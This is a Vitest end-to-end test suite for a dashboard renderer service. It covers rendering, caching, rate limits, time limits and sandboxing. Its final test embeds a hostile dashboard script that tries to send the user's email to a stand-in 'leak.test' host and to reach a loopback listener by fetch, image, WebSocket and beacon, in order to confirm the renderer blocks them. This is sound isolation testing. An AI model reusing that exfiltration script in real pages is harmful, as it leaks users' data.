import fs from "node:fs";
import net from "node:net";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { renderAnswer, type RenderAnswer } from "@/lib/contract/renders";
import { renderReports } from "@/lib/contract/reports";
import { CANARY_PATH, LoopbackListeners, describeCounts, reached } from "../../../e2e/support/listeners";
import { ensureBuilt, startProduction, type ProductionServer } from "../support/production";

// The service's own renderer on the production server (npm start), in the Debian Chromium .ci/run
// installs: a demo draft drawn at both viewports with its report and picture, kept and answered
// again from storage; its report among the revision's, where forged reports cannot displace it;
// and the renderer's bounds: refusals, a queue that refuses with Retry-After, a time limit that a
// dashboard which never yields or never settles meets without wedging the next render, an early
// end for one that waits on nothing, and nothing of what it draws reaching anything but the
// server itself.

beforeAll(() => ensureBuilt(), 900_000);

const DRAFT = "/dashboards/playground/draft";

const dashboard = (rows: number) => `<!doctype html><title>Renderer</title>
<style>body{margin:0;font:16px sans-serif} tr{height:40px}</style>
<h1 id="who">…</h1><table id="t"></table>
<script>
const API = window.DASHBOARD_API_BASE;
fetch(API + "/me").then((r) => r.json()).then((me) => { document.getElementById("who").textContent = me.email; });
const t = document.getElementById("t");
for (let i = 0; i < ${rows}; i++) { const tr = t.insertRow(); tr.insertCell().textContent = "row " + i; }
</script>`;

/** Reads its window and district from the page parameters, as a dashboard opened with ?p.days=90&p.district=… would. */
const paramsDashboard = `<!doctype html><title>Params</title><h1 id="d">…</h1>
<script>
const API = window.DASHBOARD_API_BASE;
const params = window.DASHBOARD_PARAMS || {};
const days = /^[0-9]{1,3}$/.test(params.days || "") ? params.days : "30";
document.getElementById("d").textContent = (params.district || "Every district") + ", " + days + " days";
fetch(API + "/cx/districts?days=" + days).then((r) => r.json());
</script>`;

/** Reads, then waits before reading again: a render that takes a while. */
const slow = (label: string) => `<!doctype html><title>${label}</title><p id="x">…</p>
<script>
const API = window.DASHBOARD_API_BASE;
fetch(API + "/me").then(() => new Promise((r) => setTimeout(r, 1500))).then(() => fetch(API + "/cx/owners")).then(() => { document.getElementById("x").textContent = "${label}"; });
</script>`;

function isPng(bytes: Uint8Array): boolean {
  return Buffer.from(bytes.subarray(0, 8)).equals(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]));
}

/** Width and height from a PNG's IHDR. */
function pngSize(bytes: Uint8Array): { width: number; height: number } {
  const b = Buffer.from(bytes);
  return { width: b.readUInt32BE(16), height: b.readUInt32BE(20) };
}

describe("the service's renderer, on the production server", () => {
  let server: ProductionServer;
  let dataDir: string;
  let address = 0;
  /** Each test is its own client address (through the trusted loopback proxy), with its own allowances. */
  const from = () => ({ "x-forwarded-for": `198.18.0.${++address}` });

  beforeAll(async () => {
    dataDir = fs.mkdtempSync(path.join(os.tmpdir(), "dd-renderer-"));
    server = await startProduction({
      DATA_DIR: dataDir,
      TRUSTED_PROXY: "127.0.0.1",
      RENDERER_CONCURRENCY: "1",
      RENDERER_QUEUE: "1",
      RENDERER_TIMEOUT_MS: "9000",
      PLAYGROUND_RENDERS_PER_MIN: "4",
      PLAYGROUND_CREATES_PER_MIN: "100",
    });
  }, 120_000);
  afterAll(async () => {
    await server?.stop();
    fs.rmSync(dataDir, { recursive: true, force: true });
  });

  async function create(html: string, extra: Record<string, unknown> = {}): Promise<{ id: string; postUrl: string }> {
    const res = await fetch(`${server.url}${DRAFT}`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ html, ...extra }) });
    expect(res.status, await res.clone().text()).toBe(201);
    return (await res.json()) as { id: string; postUrl: string };
  }
  const render = (id: string, body?: unknown, headers: Record<string, string> = {}) =>
    fetch(`${server.url}${DRAFT}/${id}/render`, {
      method: "POST",
      headers: { ...(body === undefined ? {} : { "content-type": "application/json" }), ...headers },
      body: body === undefined ? undefined : JSON.stringify(body),
    });
  const envelope = async (res: Response) => ({ status: res.status, ...((await res.json()) as { error: string; hint?: string }) });

  it("draws a demo draft at both viewports: the report, and a picture of the whole dashboard, kept and answered again", async () => {
    const draft = await create(dashboard(40));
    const who = from();
    const desktop = await render(draft.id, undefined, who);
    expect(desktop.status, await desktop.clone().text()).toBe(200);
    const d: RenderAnswer = renderAnswer.parse(await desktop.json());
    expect(d).toMatchObject({ revision: 1, currentRevision: 1, viewport: "desktop", scenario: "default", cached: false });
    expect(d.report).toMatchObject({ source: { kind: "service", id: "s-renderer" }, page: "render", settled: true, errors: [], refusals: [] });
    expect(d.report.requests).toEqual([expect.objectContaining({ method: "GET", path: "/me", status: 200 })]);
    // Forty 40 px rows: taller than the 800 px viewport, and the picture holds all of it.
    expect(d.picture.width).toBe(1280);
    expect(d.picture.height).toBeGreaterThan(1600);

    const png = await fetch(d.picture.url);
    expect(png.status).toBe(200);
    expect(png.headers.get("content-type")).toBe("image/png");
    expect(png.headers.get("cache-control")).toContain("immutable");
    const bytes = new Uint8Array(await png.arrayBuffer());
    expect(isPng(bytes)).toBe(true);
    expect(pngSize(bytes)).toEqual({ width: d.picture.width, height: d.picture.height });
    expect(bytes.byteLength).toBe(d.picture.bytes);
    // The picture is not blank: a white PNG of that size compresses to a few kilobytes.
    expect(bytes.byteLength).toBeGreaterThan(10_000);

    const phone = renderAnswer.parse(await (await render(draft.id, { viewport: "phone" }, who)).json());
    expect(phone.picture.width).toBe(390);
    expect(phone.picture.url).not.toBe(d.picture.url);

    // Asked again: the stored render, with no render spent (the address's allowance is 4 a minute).
    for (let i = 0; i < 6; i++) {
      const again = renderAnswer.parse(await (await render(draft.id, {}, who)).json());
      expect(again).toMatchObject({ cached: true, picture: d.picture });
    }
  }, 60_000);

  it("draws with page parameters at both viewports, as ?p. on the watch page gives them, each set its own render and report", async () => {
    const draft = await create(paramsDashboard);
    const who = from();
    const drawn: RenderAnswer[] = [];
    for (const viewport of ["desktop", "phone"] as const) {
      const res = await render(draft.id, { viewport, params: { days: "90", district: "Northwind" } }, who);
      expect(res.status, await res.clone().text()).toBe(200);
      const a = renderAnswer.parse(await res.json());
      expect(a).toMatchObject({ viewport, params: { days: "90", district: "Northwind" }, cached: false });
      expect(a.report).toMatchObject({ errors: [], refusals: [], settled: true, params: { days: "90", district: "Northwind" } });
      // The dashboard read them: its request carries the window, its heading the district.
      expect(a.report.requests).toEqual([expect.objectContaining({ path: "/cx/districts?days=90", status: 200 })]);
      drawn.push(a);
    }
    expect(drawn.map((a) => a.picture.width)).toEqual([1280, 390]);
    // Without parameters it is another render, which the dashboard draws with its defaults.
    const plain = renderAnswer.parse(await (await render(draft.id, {}, who)).json());
    expect(plain.params).toEqual({});
    expect(plain.report.requests).toEqual([expect.objectContaining({ path: "/cx/districts?days=30" })]);
    expect(new Set([plain, ...drawn].map((a) => a.picture.url)).size).toBe(3);
    // Asked again, the stored render of that parameter set.
    const again = renderAnswer.parse(await (await render(draft.id, { viewport: "phone", params: { district: "Northwind", days: "90" } }, who)).json());
    expect(again).toMatchObject({ cached: true, picture: drawn[1]?.picture });

    const body = renderReports.parse(await (await fetch(`${server.url}${DRAFT}/${draft.id}/reports`)).json());
    const service = body.reports.filter((r) => r.source.kind === "service").map((r) => JSON.stringify(r.params)).sort();
    expect(service).toEqual(['{"days":"90","district":"Northwind"}', '{"days":"90","district":"Northwind"}', "{}"]);
  }, 90_000);

  it("keeps its report among the revision's, where no number of forged reports displaces it", async () => {
    const draft = await create(`<!doctype html><title>x</title><p>fine</p>`);
    expect((await render(draft.id, undefined, from())).status).toBe(200);
    const forged = { revision: 1, page: "watch", settled: true, elapsedMs: 1, errors: [{ kind: "error", message: "forged", line: 1, column: 1, count: 1 }], console: [], refusals: [], requests: [], dropped: 0 };
    for (let i = 0; i < 15; i++) {
      const sent = await fetch(`${server.url}${DRAFT}/${draft.id}/reports`, { method: "POST", headers: { "content-type": "application/json", ...from() }, body: JSON.stringify(forged) });
      expect(sent.status).toBe(201);
    }
    const body = renderReports.parse(await (await fetch(`${server.url}${DRAFT}/${draft.id}/reports`)).json());
    expect(body.reports.filter((r) => r.source.kind === "service")).toHaveLength(1);
    expect(body.sources.service).toBe("clean");
  }, 60_000);

  it("refuses what it cannot draw, in the envelope", async () => {
    const live = await create(`<!doctype html><p>live</p>`, { dataMode: "live" });
    expect(await envelope(await render(live.id, undefined, from()))).toMatchObject({ status: 409, error: "render_demo_only" });
    const demo = await create(`<!doctype html><p>demo</p>`);
    for (const [body, status, error, hint] of [
      [{ viewport: "tablet" }, 400, "invalid_render", /^viewport: must be "desktop" or "phone"/],
      [{ revision: 0 }, 400, "invalid_render", /^revision:/],
      [{ colour: "red" }, 400, "invalid_render", /Unrecognized field "colour"/],
      [{ scenario: "nope" }, 400, "unknown_scenario", /scenarios/],
      [{ examples: { "/cx/book": "nope" } }, 400, "unknown_example", /variant/],
      [{ revision: 9 }, 404, "no_such_revision", /keeps revisions 1 to 1/],
    ] as const) {
      const res = await envelope(await render(demo.id, body, from()));
      expect(res, JSON.stringify(body)).toMatchObject({ status, error });
      expect(res.hint).toMatch(hint);
    }
    expect(await envelope(await render("A".repeat(22), undefined, from()))).toMatchObject({ status: 404, error: "no_such_draft" });
    const notJson = await fetch(`${server.url}${DRAFT}/${demo.id}/render`, { method: "POST", headers: { "content-type": "text/plain" }, body: "x" });
    expect(await envelope(notJson)).toMatchObject({ status: 415, error: "unsupported_media_type" });
    expect(await envelope(await fetch(`${server.url}${DRAFT}/${demo.id}/render/1-0000000000000000.png`))).toMatchObject({ status: 404, error: "not_found" });
  }, 60_000);

  it("refuses past its queue with Retry-After, and per address past the minute's allowance", async () => {
    const drafts = await Promise.all(["one", "two", "three"].map((l) => create(slow(l))));
    const answers = await Promise.all(drafts.map((d) => render(d.id, undefined, from())));
    const statuses = answers.map((r) => r.status).sort();
    expect(statuses).toEqual([200, 200, 503]);
    const busy = answers.find((r) => r.status === 503)!;
    expect(await envelope(busy)).toMatchObject({ error: "renderer_busy" });
    expect(Number(busy.headers.get("retry-after"))).toBeGreaterThanOrEqual(1);

    // Four a minute, refilled one every 15 s: on a busy machine four renders can take long
    // enough to earn a fifth, so the allowance is checked against the time they took.
    const who = from();
    const quick = await Promise.all([1, 2, 3, 4, 5, 6, 7, 8].map((i) => create(`<!doctype html><p>${i}</p>`)));
    const codes: number[] = [];
    const started = Date.now();
    for (const d of quick) {
      const status = (await render(d.id, undefined, who)).status;
      codes.push(status);
      if (status !== 200) break;
    }
    const earned = Math.floor((Date.now() - started) / 15_000);
    expect(codes.at(-1)).toBe(429);
    expect(codes.slice(0, -1).every((c) => c === 200)).toBe(true);
    expect(codes.length - 1).toBeGreaterThanOrEqual(4);
    expect(codes.length - 1).toBeLessThanOrEqual(4 + earned);
  }, 90_000);

  it("draws a demo draft's link preview on its first GET, within the address's allowance, and serves it free after", async () => {
    const who = from();
    /** The og:image a watch page names. */
    const preview = async (id: string) => {
      const html = await (await fetch(`${server.url}/dashboards/playground/watch/${id}`)).text();
      return /<meta property="og:image" content="([^"]+)"/.exec(html)?.[1];
    };
    const drafts = await Promise.all([1, 2, 3, 4, 5, 6, 7, 8].map((i) => create(`<!doctype html><title>p${i}</title><p>${i}</p>`)));
    const codes: number[] = [];
    const started = Date.now();
    let first: string | undefined;
    for (const d of drafts) {
      const url = await preview(d.id);
      expect(url).toMatch(/\/render\/1-[0-9a-f]{16}\.png$/);
      first ??= url;
      const res = await fetch(url!, { headers: who });
      codes.push(res.status);
      if (res.status !== 200) {
        expect(await envelope(res)).toMatchObject({ error: "rate_limited" });
        expect(Number(res.headers.get("retry-after"))).toBeGreaterThanOrEqual(1);
        break;
      }
      expect(res.headers.get("content-type")).toBe("image/png");
      expect(pngSize(new Uint8Array(await res.arrayBuffer())).width).toBe(1280);
    }
    // Four a minute, refilled one every 15 s (as above).
    const earned = Math.floor((Date.now() - started) / 15_000);
    expect(codes.at(-1)).toBe(429);
    expect(codes.length - 1).toBeGreaterThanOrEqual(4);
    expect(codes.length - 1).toBeLessThanOrEqual(4 + earned);
    // Drawn once: the same address again costs no render, past the allowance too.
    expect((await fetch(first!, { headers: who })).status).toBe(200);
    // A live draft's watch page names no picture.
    const live = await create(`<!doctype html><title>live</title><p>live</p>`, { dataMode: "live" });
    expect(await preview(live.id)).toBeUndefined();
  }, 90_000);

  it("meets a dashboard that never yields, or never settles, with its time limit, and draws the next one", async () => {
    for (const html of [
      `<!doctype html><p>loop</p><script>while (true) {}</script>`,
      `<!doctype html><p>busy</p><script>setInterval(() => fetch(window.DASHBOARD_API_BASE + "/me"), 200);</script>`,
    ]) {
      const draft = await create(html);
      const res = await render(draft.id, undefined, from());
      expect(await envelope(res), html).toMatchObject({ status: 504, error: "render_timed_out" });
      const reports = renderReports.parse(await (await fetch(`${server.url}${DRAFT}/${draft.id}/reports`)).json());
      expect(reports.sources.service).toBe("failing");
    }
    // A huge document and a dialog do not wedge it either.
    const huge = await create(`<!doctype html><script>const b = document.body; for (let i = 0; i < 200000; i++) b.appendChild(document.createElement("div")); alert("hi");</script><p>done</p>`);
    expect([200, 504]).toContain((await render(huge.id, undefined, from())).status);
    const fine = await create(`<!doctype html><title>after</title><p>after</p>`);
    const after = await render(fine.id, undefined, from());
    expect(after.status, await after.clone().text()).toBe(200);
  }, 120_000);

  it("ends a dashboard that waits on nothing before its time limit, and says why", async () => {
    // It reads, then navigates its frame to the frame's own bootstrap, which waits for a host that
    // has already handed its port away: nothing more is asked for or drawn.
    const draft = await create(`<!doctype html><p>gone</p><script>fetch(window.DASHBOARD_API_BASE + "/me").then(() => { location.href = "/dashboards/frame"; });</script>`);
    const res = await envelope(await render(draft.id, undefined, from()));
    expect(res).toMatchObject({ status: 504, error: "render_timed_out" });
    expect(res.hint).toMatch(/made no request and did no work/);
    const reports = renderReports.parse(await (await fetch(`${server.url}${DRAFT}/${draft.id}/reports`)).json());
    expect(reports.sources.service).toBe("failing");
    expect(reports.reports[0]?.errors[0]?.message).toMatch(/ended it before its time limit/);
  }, 60_000);

  it("lets nothing it draws reach anything but the server: no connection, name or datagram", async () => {
    const listeners = new LoopbackListeners();
    try {
      const t = await listeners.target("renderer");
      const hostile = `<!doctype html><title>hostile</title><p id="x">…</p>
<script>
const API = window.DASHBOARD_API_BASE;
try { fetch("http://127.0.0.1:${t.tcpPort}/fetch"); } catch {}
const img = new Image(); img.src = "http://127.0.0.1:${t.tcpPort}/img"; document.body.append(img);
try { new WebSocket("ws://127.0.0.1:${t.tcpPort}/ws"); } catch {}
try { navigator.sendBeacon("http://127.0.0.1:${t.tcpPort}/beacon", "x"); } catch {}
fetch(API + "/me").then((r) => r.json()).then((me) => {
  document.getElementById("x").textContent = me.email;
  location.href = "https://" + me.email.replace(/[^a-z]/g, "") + ".leak.test:${t.tlsPort}/";
});
setTimeout(() => { location.href = "http://127.0.0.1:${t.tcpPort}/navigate"; }, 50);
</script>`;
      const draft = await create(hostile);
      const res = await render(draft.id, undefined, from());
      expect([200, 504]).toContain(res.status);
      // Silence is read once a canary sent after the render has arrived.
      const token = `renderer-${Date.now()}`;
      const heard = listeners.canary("renderer", token);
      await new Promise<void>((resolve, reject) => {
        const s = net.connect(t.tcpPort, "127.0.0.1", () => s.write(`GET ${CANARY_PATH}${token} HTTP/1.1\r\nhost: x\r\n\r\n`));
        s.resume();
        s.on("close", () => resolve());
        s.on("error", reject);
      });
      await heard;
      const counts = listeners.counts("renderer");
      expect(reached(counts), describeCounts(counts)).toBe(false);
    } finally {
      await listeners.close();
    }
  }, 60_000);
});
